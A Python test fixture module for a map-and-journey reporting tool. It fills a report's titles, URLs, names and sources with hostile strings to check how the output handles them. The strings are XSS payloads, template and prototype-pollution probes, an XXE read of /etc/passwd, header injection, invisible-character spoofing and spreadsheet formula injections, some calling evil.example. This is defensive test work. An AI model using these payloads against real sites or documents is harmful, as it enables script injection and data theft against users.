"""Text that tries to be more than text, and reports that hold it everywhere an article or a gazetteer reaches."""

from dataclasses import replace

from founding import CHECKS, LEGS, REPORT, SOURCES, evidence, leg, mapped, place

from geomap.article.article import Article
from geomap.evidence import Evidence
from geomap.journey.leg import Certainty
from geomap.span import Span

MARKUP = (
    "<script>ran(1)</script>",
    "</script><script>ran(1)</script>",
    "</SCRIPT ><script src=//evil.example/x.js></script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "</title><script>ran(1)</script>",
    "</style><script>ran(1)</script>",
    "</svg><img src=x onerror=ran(1)>",
    "</text></svg><script>ran(1)</script>",
    "</textarea></noscript><img src=x onerror=ran(1)>",
    "<img src=x onerror=ran(1)>",
    "<img src=x:x onerror=ran(1)//",
    "<svg onload=ran(1)>",
    "<svg><script href=data:,ran(1) />",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran(1)><text>x</text></a>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran(1)</script>'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=ran(1)>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(1)>",
    "<object data=javascript:ran(1)>",
    "<embed src=javascript:ran(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<form action=https://evil.example><button>x</button></form>",
    "<details open ontoggle=ran(1)>",
    "<video><source onerror=ran(1)>",
    "<input autofocus onfocus=ran(1)>",
    "<body onpageshow=ran(1)>",
    "<marquee onstart=ran(1)>",
    "<a href=javascript:ran(1)>Khassan</a>",
    "\"' onload=ran(1) x='",
    '" onmouseover="ran(1)',
    "' autofocus onfocus='ran(1)",
    "]]><!--<script>ran(1)</script>",
    "--><script>ran(1)</script>",
    "<!--><script>ran(1)</script>",
    "<?xml-stylesheet href=javascript:ran(1)?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;b&gt;&amp;&#60;script&#62;ran(1)&#60;/script&#62;",
)
SCRIPT = (
    "`${ran(1)}`",
    "${ran(1)}",
    "`+ran(1)+`",
    "\\`;ran(1);//",
    "';ran(1);//",
    '";ran(1);//',
    '\\";ran(1);//',
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=ran(1)\\x3e",
    "*/ran(1)/*",
    "</script\u2028ran(1)",
    "{{ 7*7 }}{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "{%for x in (1).__class__.__mro__%}{{x}}{%endfor%}",
    "{#",
    "#{7*7}<%= 7*7 %>",
    "__proto__",
    "constructor",
)
ADDRESS = (
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "java\tscript:ran(1)",
    "\x01javascript:ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:image/svg+xml,<svg onload=ran(1)>",
    "vbscript:ran(1)",
    "blob:https://evil.example/x",
    "file:///etc/passwd",
    'https://journal.example/" onclick="ran(1)',
    "https://journal.example/'><script>ran(1)</script>",
    "//evil.example/x",
)
HIDDEN = (
    "Khassan\u202egpj.exe",
    "\u2066\u2067Khassan\u2069",
    "Khas\u200bsan\ufeff",
    "\x1b]0;owned\x07\x1b[31mKhassan",
    "Khas\x00san\x08\x7f",
    "Khassan\r\n\r\nLocation: https://evil.example",
    "Khassan\u2028\u2029\x85x",
    "Khassan\ud800",
    "Khas\U000e0041\U000e007fsan",
    "Khas\u2062\u206a\u180e\u00adsan\ufff9x\ufffb",
    "\u115f\u3164Khassan\u2800\uffa0",
)
FORMULA = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    " =1+1",
    "\u200b=1+1",
)
PAYLOADS = (*MARKUP, *SCRIPT, *ADDRESS, *HIDDEN, *FORMULA)


def grid(n, name, **more):
    """The nth place of a grid, far from its neighbours."""
    spot = place(f"hostile{n}", name, 38 + 14 * (n % 9) / 9, 120 + 20 * (n // 9) / 10, "P.PPL")
    return replace(spot, **more)


def poisoned(payloads=PAYLOADS):
    """One report with each payload as a name, a traveller, a mode, a source, a summary, a title, an address,
    a file's name, a sentence and what a gazetteer says of itself."""
    count = len(payloads)
    articles, legs, checks, mentions, spots = [], [], [], [], []
    sources = dict(SOURCES)
    for n, payload in enumerate(payloads):
        text = f"{payload} : {payload}"
        articles.append(
            Article(
                id=payload,
                text=text,
                lang="fr",
                published=None,
                sentences=(Span(start=0, end=len(text)),),
                title=None if n % 2 else payload,
                url=payload,
            )
        )
        sources[payload] = replace(SOURCES["geonames"], id=payload, attribution=payload, licence=payload, url=payload)
        spots.append(grid(n, payload, source=payload, url=payload, id=payload, feature_code="PPL"))
    for n, payload in enumerate(payloads):
        span = articles[n].sentences[0]
        told = (Evidence(article=payload, sentence=span, cue=Span(start=0, end=len(payload)), rule="by-hand"),)
        a, b = spots[n], spots[(n + 1) % count]
        certainty = tuple(Certainty)[n % 5]
        legs.append(
            replace(
                leg(a, b, certainty, 0, sources=(payload,), mode=payload, traveller=payload, article=payload),
                evidence=told,
            )
        )
        check = CHECKS[n % 2]
        quantity = replace(check.claim.quantity, text=payload, span=Span(start=0, end=len(payload)))
        judged = check.judgement
        measured = replace(judged.measurement, anchor=a, subject=b)
        checks.append(
            replace(
                check,
                subject=b,
                anchor=a,
                summary=payload,
                claim=replace(check.claim, article=payload, quantity=quantity, evidence=told[0]),
                judgement=replace(judged, measurement=measured),
            )
        )
        mention = mapped("Pyongyang", a)
        found = replace(mention.resolution.mention, article=payload, text=payload, span=Span(start=0, end=len(payload)))
        mentions.append(replace(mention, resolution=replace(mention.resolution, mention=found)))
    provenance = replace(
        REPORT.provenance, gazetteer=payloads[0], model=payloads[-1], options=tuple((p, p) for p in payloads)
    )
    return replace(
        REPORT,
        articles=tuple(articles),
        legs=tuple(legs),
        checks=tuple(checks),
        mentions=tuple(mentions),
        sources=sources,
        provenance=provenance,
    )


def small(payload):
    """The founding story's first leg with a payload for its traveller, origin and article."""
    return replace(
        REPORT,
        articles=(replace(REPORT.articles[0], title=payload, url=payload),),
        legs=(replace(LEGS[0], traveller=payload, sources=(payload,), evidence=evidence(0)),),
        checks=(),
        mentions=(),
    )
